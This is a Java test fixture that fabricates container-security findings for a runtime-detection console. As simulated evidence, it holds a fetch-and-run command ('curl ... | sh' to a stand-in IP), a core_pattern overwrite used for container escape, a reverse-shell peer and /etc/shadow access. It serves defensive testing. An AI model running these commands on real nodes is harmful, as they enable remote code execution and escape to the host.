package dev.vedette.tests.console;

import dev.vedette.policy.model.CapabilitySet;
import dev.vedette.policy.model.Considered;
import dev.vedette.policy.model.Container;
import dev.vedette.policy.model.Credentials;
import dev.vedette.policy.model.FileObject;
import dev.vedette.policy.model.Finding;
import dev.vedette.policy.model.Namespaces;
import dev.vedette.policy.model.Origin;
import dev.vedette.policy.model.OverlayLayer;
import dev.vedette.policy.model.Place;
import dev.vedette.policy.model.ProcessId;
import dev.vedette.policy.model.ProcessInfo;
import dev.vedette.policy.model.ResponseAction;
import dev.vedette.policy.model.Severity;
import dev.vedette.policy.model.Stdio;
import dev.vedette.policy.model.Verdict;
import java.time.Duration;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** What two shops' containers might do on a bad day, for tests of the console. */
final class NodeFindings {
    static final String NODE = "worker-2";

    static final Container CHECKOUT =
            container("checkout", "shop", "checkout-6f7c9d5b8-x2kqp", "registry.example/shop/checkout:2.14.1", "7");
    static final Container REPORTS =
            container("reports", "batch", "reports-28391040-9hz4t", "registry.example/batch/reports:0.9", "a");

    private static final List<Considered> CONSIDERED = List.of(
            new Considered(Considered.Kind.RESPONSE, "shop-baseline", "audit: pause for *", List.of(), true),
            new Considered(Considered.Kind.RESPONSE, "everywhere", "audit: throttle for *", List.of(), false),
            new Considered(
                    Considered.Kind.EXCEPTION,
                    "debugging",
                    "a debugger is known to do so (policy debugging, until 2026-03-31)",
                    List.of("it expired after 2026-03-31"),
                    false),
            new Considered(
                    Considered.Kind.RESPONSE,
                    "payments",
                    "enforce: stop for VDT-2* from high on",
                    List.of("its scope is namespace payments, not shop"),
                    false));

    private final Instant now = Instant.now();
    private int number;

    /** A shell that a web server was made to start and that changes the node's core pattern. */
    Finding corePattern(String id) {
        Map<String, String> evidence = new LinkedHashMap<>();
        evidence.put("file", "/proc/sys/kernel/core_pattern");
        evidence.put("opened for", "writing");
        evidence.put("inode of", "the node's own procfs");
        return finding(
                id,
                "VDT-2002",
                "Core pattern changed",
                Severity.CRITICAL,
                "A container opened core_pattern for writing: the kernel would run its program on the node",
                CHECKOUT,
                webShell(),
                evidence,
                new Verdict(ResponseAction.PAUSE, false, "shop-baseline", "audit mode", "").with(CONSIDERED));
    }

    /** A look from the one container into the other. */
    Finding stepIntoReports(String id) {
        Map<String, String> evidence = new LinkedHashMap<>();
        evidence.put("file", "/etc/shadow");
        evidence.put("target container", REPORTS.displayName());
        return finding(
                id,
                "VDT-2015",
                "Process of the node or of another container accessed",
                Severity.HIGH,
                "A shell read the memory of a process of batch/reports",
                List.of("T1055.008", "T1552.001"),
                CHECKOUT,
                webShell(),
                evidence,
                Verdict.DEFAULT);
    }

    /** One of which everything that an attacker names is {@code text}. */
    Finding named(String id, String text) {
        return finding(
                id,
                "VDT-3004",
                "Program that is not of the image",
                Severity.MEDIUM,
                "The program " + text + " runs",
                container(text, text, text, text, "c"),
                webShell(),
                Map.of("program", text, text, text),
                Verdict.DEFAULT);
    }

    Finding reverseShell(String id) {
        return finding(
                id,
                "VDT-3001",
                "Shell on a socket",
                Severity.HIGH,
                "A shell reads from and writes to a network connection",
                CHECKOUT,
                webShell(),
                Map.of("peer", "203.0.113.9:4444", "descriptors", "0, 1, 2"),
                new Verdict(ResponseAction.KILL_PROCESS, true, "shop-enforced", "the rule is enforced in shop", ""));
    }

    Finding newProgram(String id) {
        return finding(
                id,
                "VDT-3004",
                "Program that is not of the image",
                Severity.MEDIUM,
                "A program runs that was written after the container started",
                REPORTS,
                webShell(),
                Map.of("program", "/tmp/.x/worker"),
                Verdict.DEFAULT);
    }

    Finding neverSeen(String id) {
        return finding(
                id,
                "VDT-5001",
                "Process never seen before",
                Severity.LOW,
                "This workload never ran curl before",
                REPORTS,
                webShell(),
                Map.of("learned for", "6 days"),
                Verdict.DEFAULT);
    }

    Finding contention(String id) {
        return finding(
                id,
                "VDT-4001",
                "CPU taken by a neighbour",
                Severity.INFO,
                "The container waits for the CPU that a neighbour uses",
                REPORTS,
                null,
                Map.of("waited", "41 % of the last 10 s"),
                Verdict.DEFAULT);
    }

    /** One of many, each in a container of its own. */
    Finding inContainer(int number) {
        String pod = "flood-" + number;
        Container one =
                container("flood", "load", pod, "registry.example/flood:1", Integer.toHexString(0x1000_0000 + number));
        return finding(
                "flood-" + number,
                "VDT-3004",
                "Program that is not of the image",
                Severity.MEDIUM,
                "A program runs that was written after the container started",
                one,
                webShell(),
                Map.of("number", Integer.toString(number)),
                Verdict.DEFAULT);
    }

    /** The same, as if played back. */
    static Finding recorded(Finding live) {
        return new Finding(
                live.id(),
                live.ruleId(),
                live.title(),
                live.severity(),
                live.techniques(),
                live.message(),
                live.node(),
                live.container(),
                live.process(),
                live.place(),
                live.evidence(),
                live.verdict(),
                Origin.RECORDING,
                live.epochNanos(),
                live.decidedEpochNanos());
    }

    private Finding finding(
            String id,
            String rule,
            String title,
            Severity severity,
            String message,
            Container container,
            ProcessInfo process,
            Map<String, String> evidence,
            Verdict verdict) {
        return finding(id, rule, title, severity, message, List.of("T1611"), container, process, evidence, verdict);
    }

    private Finding finding(
            String id,
            String rule,
            String title,
            Severity severity,
            String message,
            List<String> techniques,
            Container container,
            ProcessInfo process,
            Map<String, String> evidence,
            Verdict verdict) {
        Instant happened = now.minus(Duration.ofSeconds(40)).plusMillis(1_700L * number++);
        long nanos = happened.getEpochSecond() * 1_000_000_000L + happened.getNano();
        return new Finding(
                id,
                rule,
                title,
                severity,
                techniques,
                message,
                NODE,
                container,
                process,
                Place.NONE,
                evidence,
                verdict,
                Origin.LIVE,
                nanos,
                nanos + 2_300_000);
    }

    private static ProcessInfo webShell() {
        ProcessInfo shim = process(
                2_310,
                "/usr/bin/containerd-shim-runc-v2",
                null,
                false,
                "containerd-shim-runc-v2",
                "-namespace",
                "k8s.io");
        ProcessInfo server = process(2_388, "/usr/local/bin/node", shim, true, "node", "server.js");
        ProcessInfo shell = process(9_121, "/bin/sh", server, false, "sh", "-c", "curl -s http://203.0.113.9/p | sh");
        return process(
                9_124,
                "/tmp/.x/sh",
                shell,
                false,
                "sh",
                "-c",
                "echo '|/proc/%P/root/tmp/.x/worker' > /proc/sys/kernel/core_pattern");
    }

    private static ProcessInfo process(int pid, String path, ProcessInfo parent, boolean serving, String... arguments) {
        OverlayLayer layer = path.startsWith("/tmp") ? OverlayLayer.UPPER : OverlayLayer.LOWER;
        FileObject file = new FileObject(
                path, 0x2f, 140_000L + pid, 0, 0x794c7630, 1, 0100755, 0, layer, FileObject.PathEnd.ROOT);
        CapabilitySet capabilities = new CapabilitySet(0xa82425fbL);
        Credentials root = new Credentials(
                0, 0, 0, 0, capabilities, capabilities, CapabilitySet.NONE, capabilities, CapabilitySet.NONE, 0, false);
        Stdio stdio = parent != null && path.startsWith("/tmp")
                ? new Stdio(Stdio.Kind.PIPE, Stdio.Kind.CONNECTED_SOCKET, Stdio.Kind.CONNECTED_SOCKET)
                : Stdio.UNKNOWN;
        return new ProcessInfo(
                new ProcessId(pid, 81_000_000_000L + pid),
                arguments[0],
                file,
                List.of(arguments),
                root,
                Namespaces.UNKNOWN,
                stdio,
                parent,
                serving);
    }

    private static Container container(String name, String namespace, String pod, String image, String digit) {
        Instant started = Instant.now().minus(Duration.ofHours(5));
        return new Container(
                digit.repeat(64),
                name,
                image,
                "sha256:" + digit.repeat(64),
                "containerd",
                new Container.Pod(
                        namespace,
                        pod,
                        "3d2a7f0e-0000-4000-8000-00000000000" + digit.charAt(0),
                        name,
                        Map.of("app", name)),
                Set.of(),
                started.getEpochSecond() * 1_000_000_000L,
                Container.Identity.KNOWN);
    }
}
